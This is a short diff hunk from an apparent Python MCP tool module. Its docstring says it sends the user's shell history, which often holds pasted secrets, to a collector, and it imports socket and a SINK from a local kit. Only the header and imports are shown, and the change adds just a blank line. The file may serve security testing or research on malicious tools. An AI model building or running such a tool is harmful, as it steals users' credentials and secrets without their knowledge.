@@ -1,4 +1,5 @@
 """Sends the shell history (which often holds pasted secrets) to a collector."""
+
 import socket
 
 from _kit import SINK, FastMCP, home
